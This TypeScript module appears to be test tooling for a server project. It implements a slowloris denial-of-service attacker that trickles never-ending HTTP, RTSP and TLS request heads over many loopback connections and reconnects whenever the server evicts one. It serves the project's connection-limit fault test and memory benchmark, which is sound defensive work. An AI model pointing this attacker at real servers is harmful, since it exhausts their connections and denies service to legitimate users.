/**
 * A slowloris attacker for the connection-limit fault test and the memory bench: many TCP
 * connections to each target, spread over the loopback addresses 127.0.0.2–127.0.0.254 (the
 * victim in a test uses 127.0.0.1), each sending one byte of a head that never ends every few
 * seconds, and opening a new connection a little after the host closes one — an attacker that
 * keeps up the pressure rather than one the first eviction sends away.
 *
 * Why here and not under test/: the benchmark (compiled from `src/`) runs the same attacker
 * against a host process to record its memory; the fault test imports it from here.
 * Not a benchmark itself (the runner only loads `*.bench.js`).
 */
import * as net from "node:net"

export interface SlowTarget {
  readonly name: string
  readonly port: number
  readonly host?: string
  /** What a client of this listener would start with; sent a byte at a time, then `filler` for ever. */
  readonly prefix: Buffer
  readonly filler?: number
}

export interface SlowSocketOptions {
  /** Connections kept open (or reopened) per target. */
  readonly perTarget: number
  /** One byte per socket every this many ms (each socket starts at a random phase). */
  readonly byteEveryMs: number
  /** A closed connection is opened again after about this many ms. */
  readonly reconnectAfterMs: number
  /** Opening the first connections is spread over this long (a burst would overflow the backlog). */
  readonly rampMs?: number
}

export interface SlowTargetStats {
  /** Connections established so far. */
  readonly connects: number
  /** Connections the host closed (evicted, timed out, refused). */
  readonly closed: number
  /** Bytes sent in all. */
  readonly bytes: number
  /** Connections open right now. */
  readonly open: number
}

export interface SlowSockets {
  readonly stats: () => Readonly<Record<string, SlowTargetStats>>
  readonly stop: () => void
}

/** An HTTP request head that never ends: one more header byte at a time. */
export const httpPrefix = (host: string): Buffer => Buffer.from(`GET / HTTP/1.1\r\nHost: ${host}\r\nX-Slow: `, "latin1")
/** An RTSP request head that never ends. */
export const rtspPrefix = (): Buffer => Buffer.from("OPTIONS rtsp://127.0.0.1 RTSP/1.0\r\nCSeq: 1\r\nX-Slow: ", "latin1")
/** A TLS record header announcing a 16 KiB handshake record, whose body then trickles in. */
export const tlsPrefix = (): Buffer => Buffer.from([0x16, 0x03, 0x01, 0x40, 0x00, 0x01, 0x00, 0x3f, 0xfc, 0x03, 0x03])

export const attackerAddress = (i: number): string => `127.0.0.${2 + (i % 253)}`

export const startSlowSockets = (targets: ReadonlyArray<SlowTarget>, options: SlowSocketOptions): SlowSockets => {
  let stopped = false
  const sockets = new Set<net.Socket>()
  const timers = new Set<ReturnType<typeof setTimeout>>()
  const stats = new Map<string, { connects: number; closed: number; bytes: number; open: number }>()

  const later = (ms: number, f: () => void) => {
    if (stopped) return
    const t = setTimeout(() => {
      timers.delete(t)
      f()
    }, ms)
    timers.add(t)
  }

  const open = (target: SlowTarget, index: number) => {
    if (stopped) return
    const s = stats.get(target.name)
    if (s === undefined) return
    const socket = net.connect({ port: target.port, host: target.host ?? "127.0.0.1", localAddress: attackerAddress(index) })
    sockets.add(socket)
    let sent = 0
    let tick: ReturnType<typeof setInterval> | undefined
    let connected = false
    socket.on("connect", () => {
      connected = true
      s.connects++
      s.open++
      const send = () => {
        if (socket.destroyed || !socket.writable) return
        const byte = sent < target.prefix.length ? (target.prefix[sent] ?? 0x61) : (target.filler ?? 0x61)
        sent++
        s.bytes++
        socket.write(Buffer.of(byte))
      }
      send()
      later(Math.floor(Math.random() * options.byteEveryMs), () => {
        if (socket.destroyed) return
        tick = setInterval(send, options.byteEveryMs)
      })
    })
    socket.on("data", () => undefined)
    socket.on("error", () => socket.destroy())
    socket.on("close", () => {
      if (tick !== undefined) clearInterval(tick)
      sockets.delete(socket)
      if (connected) {
        s.open--
        if (!stopped) s.closed++
      }
      later(options.reconnectAfterMs / 2 + Math.random() * options.reconnectAfterMs, () => open(target, index))
    })
  }

  const ramp = options.rampMs ?? 2_000
  for (const target of targets) {
    stats.set(target.name, { connects: 0, closed: 0, bytes: 0, open: 0 })
    for (let i = 0; i < options.perTarget; i++) later(Math.floor((ramp * i) / options.perTarget), () => open(target, i))
  }

  return {
    stats: () => Object.fromEntries([...stats].map(([name, s]) => [name, { ...s }])),
    stop: () => {
      stopped = true
      for (const t of timers) clearTimeout(t)
      timers.clear()
      for (const socket of sockets) socket.destroy()
    }
  }
}
